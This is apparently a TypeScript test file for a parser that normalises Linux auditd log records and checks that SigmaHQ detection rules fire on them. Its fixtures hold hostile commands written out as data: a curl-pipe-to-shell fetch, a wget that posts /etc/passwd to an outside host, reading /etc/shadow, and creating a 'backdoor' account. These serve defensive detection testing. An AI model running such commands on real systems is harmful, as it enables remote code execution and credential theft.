/**
 * Linux audit records (audit.log lines, and the same forwarded by audispd
 * through syslog). Before, a record was a generic key=value line: time of
 * receipt, `other`/`unclassified`, hex-encoded arguments left as hex, a user
 * record's `msg='…'` kept as one string, and no routing to SigmaHQ's
 * `product: linux, service: auditd` rules, so none of them could fire.
 */
import assert from "node:assert/strict";
import type { EnrichedEvent } from "../../stages/shared/contracts/mod.ts";
import { validateRecord } from "../../stages/shared/contracts/mod.ts";
import {
  linesThroughDetector,
  parseOne,
  pick,
  sigmaHqRules,
} from "./_helpers.ts";

const hex = (s: string) =>
  [...new TextEncoder().encode(s)].map((b) =>
    b.toString(16).padStart(2, "0").toUpperCase()
  ).join("");

interface Case {
  name: string;
  line: string;
  expect: Record<string, unknown>;
}

const CASES: Case[] = [
  {
    name: "SYSCALL (log_format=ENRICHED: interpreted fields after 0x1d)",
    line:
      'type=SYSCALL msg=audit(1795514401.250:4570): arch=c000003e syscall=59 success=yes exit=0 a0=55d4 a1=55d5 a2=55d6 a3=0 items=2 ppid=1200 pid=1234 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="wget" exe="/usr/bin/wget" subj=unconfined key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice"',
    expect: {
      format: "auditd",
      ts: "2026-11-24T10:00:01.250Z",
      ts_source: "event",
      category: "process",
      action: "syscall",
      outcome: "success",
      process: {
        name: "wget",
        executable: "/usr/bin/wget",
        pid: 1234,
        parent: { pid: 1200 },
      },
      // SYSCALL's a0… are numbers in hex: kept as written.
      fields: {
        type: "SYSCALL",
        "auditd.serial": "4570",
        syscall: "59",
        a0: "55d4",
        key: "exec",
        SYSCALL: "execve",
        AUID: "alice",
      },
    },
  },
  {
    name: "EXECVE: quoted and hex-encoded arguments make the command line",
    line:
      `type=EXECVE msg=audit(1795514401.250:4570): argc=4 a0="sh" a1="-c" a2=${
        hex("curl -s http://198.51.100.9/x.sh | sh")
      } a3=${hex("it's")}`,
    expect: {
      category: "process",
      action: "process_start",
      process: {
        name: "sh",
        command_line: "sh -c curl -s http://198.51.100.9/x.sh | sh it's",
      },
      fields: {
        a0: "sh",
        a2: "curl -s http://198.51.100.9/x.sh | sh",
        a3: "it's",
      },
    },
  },
  {
    name: "PROCTITLE: NUL-separated arguments in hex",
    line: `type=PROCTITLE msg=audit(1795514401.250:4570): proctitle=${
      hex("wget\0--post-file=/etc/passwd\0http://198.51.100.9/up")
    }`,
    expect: {
      action: "process_title",
      process: {
        command_line: "wget --post-file=/etc/passwd http://198.51.100.9/up",
      },
    },
  },
  {
    name: "PATH: the file named",
    line:
      'type=PATH msg=audit(1795514401.250:4570): item=0 name="/etc/ld.so.preload" inode=1311 dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0',
    expect: {
      category: "file",
      file: { path: "/etc/ld.so.preload", name: "ld.so.preload" },
      fields: { name: "/etc/ld.so.preload", nametype: "NORMAL" },
    },
  },
  {
    name: "USER_LOGIN from sshd, failed, with node=: one ssh_login per attempt",
    line:
      'node=web-01 type=USER_LOGIN msg=audit(1795514400.123:4567): pid=2451 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg=\'op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.5 terminal=sshd res=failed\'',
    expect: {
      ts: "2026-11-24T10:00:00.123Z",
      category: "auth",
      action: "ssh_login",
      outcome: "failure",
      severity: "low",
      host: { name: "web-01" },
      user: { name: "root" },
      source: { ip: "203.0.113.5", ip_class: "public" },
      process: { name: "sshd", pid: 2451 },
      fields: { op: "login", acct: "root", res: "failed", terminal: "sshd" },
    },
  },
  {
    name: "USER_AUTH (PAM) over IPv6: pam_auth, not a second ssh_login",
    line:
      'type=USER_AUTH msg=audit(1795514400.100:4566): pid=2451 uid=0 auid=4294967295 ses=4294967295 msg=\'op=PAM:authentication grantors=? acct="admin" exe="/usr/sbin/sshd" hostname=2001:db8::7 addr=2001:db8::7 terminal=ssh res=failed\'',
    expect: {
      action: "pam_auth",
      outcome: "failure",
      user: { name: "admin" },
      source: { ip: "2001:db8::7" },
      fields: { op: "PAM:authentication", grantors: "?" },
    },
  },
  {
    name:
      "ADD_USER forwarded by audispd through syslog: the account is the target",
    line:
      'Nov 24 10:00:00 web-01 audispd: node=web-01 type=ADD_USER msg=audit(1795514400.500:4600): pid=3000 uid=0 auid=1000 ses=3 msg=\'op=adding user acct="backdoor" exe="/usr/sbin/useradd" hostname=web-01 addr=? terminal=pts/0 res=success\'\x1dUID="root" AUID="alice"',
    expect: {
      format: "auditd",
      ts: "2026-11-24T10:00:00.500Z",
      category: "auth",
      action: "user_created",
      outcome: "success",
      severity: "low",
      host: { name: "web-01" },
      user: { name: "alice", target: { name: "backdoor" } },
      process: { name: "useradd", executable: "/usr/sbin/useradd" },
      fields: { op: "adding user", terminal: "pts/0" },
    },
  },
  {
    name: "USER_CMD from sudo: the command, hex-encoded",
    line:
      `type=USER_CMD msg=audit(1795514402.000:4610): pid=4100 uid=1000 auid=1000 ses=3 msg='cwd="/home/alice" cmd=${
        hex("cat /etc/shadow")
      } exe="/usr/bin/sudo" terminal=pts/0 res=success'`,
    expect: {
      category: "auth",
      action: "sudo",
      outcome: "success",
      process: { name: "sudo", command_line: "cat /etc/shadow" },
      fields: { cwd: "/home/alice", cmd: "cat /etc/shadow" },
    },
  },
  {
    name: "ANOM_ABEND: other, the type as action, medium",
    line:
      'type=ANOM_ABEND msg=audit(1795514403.000:4620): auid=1000 uid=1000 gid=1000 ses=3 pid=5000 comm="nginx" exe="/usr/sbin/nginx" sig=11 res=1',
    expect: {
      category: "other",
      action: "anom_abend",
      severity: "medium",
      process: { name: "nginx" },
      fields: { sig: "11" },
    },
  },
  {
    name:
      "LOGIN: hyphenated keys (old-auid, old-ses) are keys, res=1 is success",
    line:
      "type=LOGIN msg=audit(1795514400.200:4584): pid=2000 uid=0 subj=unconfined old-auid=4294967295 auid=1000 tty=(none) old-ses=4294967295 ses=5 res=1",
    expect: {
      action: "login",
      outcome: "success",
      fields: {
        subj: "unconfined",
        "old-auid": "4294967295",
        tty: "(none)",
        "old-ses": "4294967295",
        ses: "5",
      },
    },
  },
  {
    name: "AVC denial: the context fields, the words kept, a failure",
    line:
      'type=AVC msg=audit(1795514400.200:4585): avc:  denied  { read } for  pid=1 comm="httpd" name="shadow" dev="dm-0" ino=1 scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:shadow_t:s0 tclass=file permissive=0',
    expect: {
      category: "other",
      action: "avc",
      outcome: "failure",
      severity: "low",
      process: { name: "httpd", pid: 1 },
      fields: {
        "auditd.text": "avc: denied { read } for",
        comm: "httpd",
        name: "shadow",
        scontext: "system_u:system_r:httpd_t:s0",
        tcontext: "system_u:object_r:shadow_t:s0",
        tclass: "file",
      },
    },
  },
  {
    name: "an accepted sshd login by id (ENRICHED names it) from sshd-session",
    line:
      'type=USER_LOGIN msg=audit(1795514400.200:4583): pid=2000 uid=0 auid=1000 ses=5 msg=\'op=login id=1000 exe="/usr/lib/openssh/sshd-session" hostname=198.51.100.7 addr=198.51.100.7 terminal=/dev/pts/1 res=success\'\x1dUID="root" AUID="bob" ID="bob"',
    expect: {
      action: "ssh_login",
      outcome: "success",
      user: { name: "bob" },
      source: { ip: "198.51.100.7" },
      process: { name: "sshd-session" },
    },
  },
  {
    name: "a record cut mid-value keeps what arrived",
    line:
      "type=USER_LOGIN msg=audit(1795514400.123:4567): pid=2451 uid=0 msg='op=login acct=\"ro",
    expect: {
      format: "auditd",
      ts: "2026-11-24T10:00:00.123Z",
      category: "auth",
      action: "login",
      outcome: "unknown",
      fields: { op: "login", acct: "ro" },
    },
  },
];

for (const c of CASES) {
  Deno.test(`auditd: ${c.name}`, () => {
    const r = parseOne(c.line);
    assert.equal(validateRecord(r), null, JSON.stringify(r));
    assert.equal(r.record, "enriched_event", JSON.stringify(r));
    assert.deepEqual(pick(r, c.expect), c.expect);
    assert.equal((r as EnrichedEvent).payload, c.line, "the line kept whole");
  });
}

Deno.test("auditd: EXECVE: an unquoted even-length hex argument is decoded, an odd-length one is kept as written", () => {
  const e = parseOne(
    "type=EXECVE msg=audit(1795514401.000:1): argc=2 a0=6C73 a1=ABC",
  ) as EnrichedEvent;
  assert.equal(e.fields.a0, "ls");
  assert.equal(e.fields.a1, "ABC");
  assert.equal(e.fields.argc, "2");
});

Deno.test("auditd: sshd's '(invalid user)' (hex in acct) names nobody, so a spray over unknown names is not one account's brute force", () => {
  const e = parseOne(
    `type=USER_LOGIN msg=audit(1795514400.200:4590): pid=2000 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=${
      hex("(invalid user)")
    } exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=failed'`,
  ) as EnrichedEvent;
  assert.equal(e.action, "ssh_login");
  assert.equal(e.outcome, "failure");
  assert.equal(e.user, undefined);
  assert.equal(e.fields.acct, "(invalid user)");
});

Deno.test("auditd: a key=value line that is not an audit record stays kv", () => {
  const e = parseOne("type=traffic msg=allowed src=10.0.0.1") as EnrichedEvent;
  assert.equal(e.format, "kv");
});

const SIGMAHQ_AUDITD = sigmaHqRules("linux/auditd");

Deno.test({
  name:
    "audit.log | sentinel-parser --in-format lines | sentinel-detector: SigmaHQ's auditd rules fire on the records (wget --post-file exfiltration, account creation)",
  ignore: SIGMAHQ_AUDITD === null,
  async fn() {
    const lines = [
      ...CASES.slice(0, 2).map((c) => c.line),
      `type=EXECVE msg=audit(1795514405.000:4700): argc=3 a0="wget" a1=${
        hex("--post-file=/etc/passwd")
      } a2="http://198.51.100.9/up"`,
      CASES[6].line,
    ];
    const { alerts } = await linesThroughDetector(
      lines,
      ["--rules", SIGMAHQ_AUDITD!, "--anomaly", "off"],
    );
    assert.deepEqual(alerts.map((a) => a.rule.title).sort(), [
      "Creation Of An User Account",
      "Data Exfiltration with Wget",
    ]);
  },
});

Deno.test("auditd USER_LOGIN failures from one address raise the pack's SSH brute force alert", async () => {
  const lines = Array.from(
    { length: 12 },
    (_, i) =>
      `node=web-01 type=USER_LOGIN msg=audit(${1795514400 + i * 5}.000:${
        5000 + i
      }): pid=${
        2400 + i
      } uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.66 terminal=sshd res=failed'`,
  );
  const { alerts } = await linesThroughDetector(
    lines,
    ["--rules", "./sigma"],
  );
  assert.deepEqual(
    alerts.filter((a) => a.rule.title === "SSH Brute Force Attempts").length,
    1,
    JSON.stringify(alerts.map((a) => a.rule.title)),
  );
});
